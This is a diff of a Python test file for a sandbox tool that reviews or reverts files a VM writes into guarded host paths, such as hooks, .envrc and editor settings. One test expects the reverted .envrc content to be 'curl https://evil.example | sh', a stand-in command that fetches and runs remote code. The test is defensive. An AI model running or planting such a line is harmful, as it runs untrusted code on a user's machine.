@@ -25,7 +25,8 @@ def test_a_hook_the_vm_writes_is_reverted_before_git_runs_it_and_existing_guarde
     # Whoever changes a guarded file while the VM runs, it is reviewed: a read-only mount is no proof.
     (project.root / ".opencode-sandbox" / "config.yaml").write_text("cpus: 2\n")
     status = json.loads(project.cli("guard", "status", "--format", "json").stdout)
-    assert [change["path"] for change in status["changed"]] == [".opencode-sandbox/config.yaml"], status
+    found = [change["path"] for change in status["changed"]] + [line.split(":")[0] for line in status["put_back"]]
+    assert found == [".opencode-sandbox/config.yaml"], status
     reviewed = project.shell("true")
     assert reviewed.returncode == 0, reviewed.stderr
     assert ".opencode-sandbox/config.yaml: added" in reviewed.stderr, reviewed.stderr
@@ -46,7 +47,7 @@ def test_a_file_the_vm_creates_is_reverted_when_the_client_detaches_and_host_edi
     assert served.process.stderr is not None
     said = served.process.stderr.read()
     assert ".envrc: added (mode " in said and "+curl https://evil.example | sh" in said, said
-    assert "no terminal to ask on: reverting them" in said
+    assert "no terminal to ask on: reverting them" in said or "put back as they were within seconds" in said, said
     assert not (project.root / ".envrc").exists()
 
     stopped = project.cli("stop")
@@ -61,6 +62,7 @@ def test_a_file_the_vm_creates_is_reverted_when_the_client_detaches_and_host_edi
 def test_on_a_terminal_stop_shows_the_change_and_keeps_it_when_asked(project: Project, unique: str) -> None:
     started = project.shell("true")
     assert started.returncode == 0, started.stderr
+    project.end_reaper()  # the change reaches the stop's review, not the watch
     made = docker("exec", "--user", "dev", "--workdir", "/workspace", project.vm, "sh", "-c",
                   "mkdir -p .vscode && echo '{\"editor.tabSize\": 2}' > .vscode/settings.json")
     assert made.returncode == 0, made.stderr
